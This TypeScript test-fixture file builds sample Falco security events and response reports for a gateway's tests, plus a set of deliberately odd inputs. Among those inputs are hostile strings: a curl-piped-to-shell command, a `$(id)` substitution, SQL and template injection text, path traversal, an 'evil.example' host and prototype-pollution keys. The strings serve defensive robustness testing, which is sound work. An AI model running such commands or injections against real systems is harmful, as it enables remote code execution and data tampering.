/** Ready events, notices and reports. */
import { type FalcoEvent, parseEvent, toJson } from '../event.ts'
import type { Notice, Report } from '../plugin.ts'

/** Falco's JSON of {@link anEvent}. */
const SAMPLE = {
  hostname: 'node-1',
  output: 'A shell was spawned in a container with an attached terminal (user=root command=bash pod=web-1)',
  output_fields: {
    'container.id': '4f8e0c1d2b3a',
    'k8s.ns.name': 'default',
    'k8s.pod.name': 'web-1',
    'proc.cmdline': 'bash',
    'proc.pid': 4711,
    'user.name': 'root',
  },
  priority: 'Notice',
  rule: 'Terminal shell in container',
  source: 'syscall',
  tags: ['container', 'shell', 'mitre_execution'],
  time: '2026-01-31T12:00:00.123456789Z',
} as const

/** The id that {@link anEvent} has. */
export const EVENT_ID = '019c13e6-8b3b-7000-8000-000000000001'

/** Members of Falco's JSON that replace those of the sample; null is sent as null, undefined leaves a member out. */
export type EventMembers = Readonly<Record<string, unknown>>

/**
 * A Falco event as the gateway hands it out: parsed, frozen, always the same.
 * @param members Falco's members (`output_fields`, not `fields`) in place of the sample's; bigints keep their digits
 * @example anEvent({ priority: 'Critical', output_fields: { 'proc.name': 'nc' } }).priority // 'Critical'
 */
export const anEvent = (members: EventMembers = {}): FalcoEvent =>
  parseEvent(toJson({ ...SAMPLE, ...members }), { id: EVENT_ID, input: 'test' })

/**
 * The report of a response that succeeded in two steps.
 * @example aReport({ outcome: 'refused' }).outcome // 'refused'
 */
export const aReport = (members: Partial<Report> = {}): Report => ({
  id: '7d0f4a2c9b1e',
  event: EVENT_ID,
  rule: 'Shell in a container',
  mode: 'enforce',
  outcome: 'succeeded',
  steps: [
    {
      id: 'mark',
      action: 'kubernetes:label',
      outcome: 'succeeded',
      summary: 'labelled default/web-1',
      objects: { pod: 'web-1', namespace: 'default' },
      attempts: 1,
      duration: 12,
    },
    { id: 'stop', action: 'kubernetes:terminate', outcome: 'succeeded', summary: '', attempts: 2, duration: 30 },
  ],
  target: 'pod/default/web-1',
  startedAt: '2026-01-31T12:00:00.200Z',
  duration: 42,
  traceId: '4bf92f3577b34da6a3ce929d0e0e4736',
  ...members,
})

/**
 * A notice: of {@link anEvent}, unless another event or a report is given.
 * @example aNotice({ event: anEvent({ rule: 'Another' }) })
 * @example aNotice({ report: aReport() }) // of a response
 */
export const aNotice = (members: Partial<Notice> = {}): Notice => ({
  id: '019c13e6-8b3b-7000-8000-0000000000aa',
  event: anEvent(),
  traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  ...members,
})

/** An integer that a double cannot hold. */
export const BIG = 1_769_860_800_123_456_789n

const own = (json: string): EventMembers => JSON.parse(json) as EventMembers

/**
 * Events that are right but odd: empty, huge, hostile. Every output takes them.
 * @example for (const { name, event } of oddEvents()) await sender.send([aNotice({ event })], signal)
 */
export const oddEvents = (): readonly { readonly name: string; readonly event: FalcoEvent }[] =>
  Object.entries(ODD).map(([name, members]) => ({ name, event: anEvent(members()) }))

const ODD: Readonly<Record<string, () => EventMembers>> = {
  'no fields': () => ({ output_fields: {} }),
  'only what Falco always sends': () => ({ output_fields: null, tags: null, hostname: null, source: undefined }),
  'empty texts': () => ({ output: '', hostname: '', tags: [''], output_fields: { 'proc.name': '', '': 'nameless' } }),
  'null and booleans': () => ({ output_fields: { 'proc.name': null, 'proc.is_exe_writable': true, 'fd.nat': false } }),
  'nested values': () => ({ output_fields: { 'proc.args': ['a', ['b', null]], 'ka.req': { a: { b: [1, {}] } } } }),
  'integers of 19 digits': () => ({ output_fields: { 'evt.time': BIG, nested: { deep: [BIG] } } }),
  'other numbers': () => ({ output_fields: { zero: 0, negative: -1.5, tiny: 1e-300, huge: 1e300 } }),
  unicode: () => ({ rule: '規則 🦉 ñ', output: 'e\u0301 👩‍💻 \u202egnp.exe \ud800 lone', hostname: 'nœud' }),
  'control characters': () => ({ output: 'a\u001b[2J\u0007\r\nb\u0000c\u009b31m', tags: ['a\nb'], rule: 'a\u0000\tb' }),
  markup: () => ({
    output: '<!channel> </b>&amp; *x* `y` {{ 7 | times: 6 }} ${env:HOME} $(id) "; DROP TABLE x; --',
    output_fields: { 'proc.cmdline': `sh -c 'curl "http://x/?a=1&b=2" | sh'`, '{{ x }}': '@everyone' },
  }),
  'names of members of objects': () => ({
    output_fields: own('{"__proto__":"x","constructor":"y","toString":"z","hasOwnProperty":1}'),
  }),
  'a rule like a path': () => ({ rule: '../../admin?x=1#y', hostname: '//evil.example/', source: 'a/b' }),
  'an output of 1 MB': () => ({ output: 'A<&>"\u{1f989}'.repeat(150_000) }),
  'fields of 1 MB and many': () => ({
    output_fields: Object.fromEntries([
      ['proc.cmdline', 'x'.repeat(1_000_000)],
      ...Array.from({ length: 500 }, (_, i) => [`proc.aname[${i}]`, `name ${i}`]),
    ]),
  }),
  'members Falco does not know': () => ({ cluster: 'prod', response: 'mine', nested: { a: [BIG] }, uuid: 'my-uuid' }),
  'a time with an offset': () => ({ time: '2026-01-31T12:00:00.1+0200' }),
}
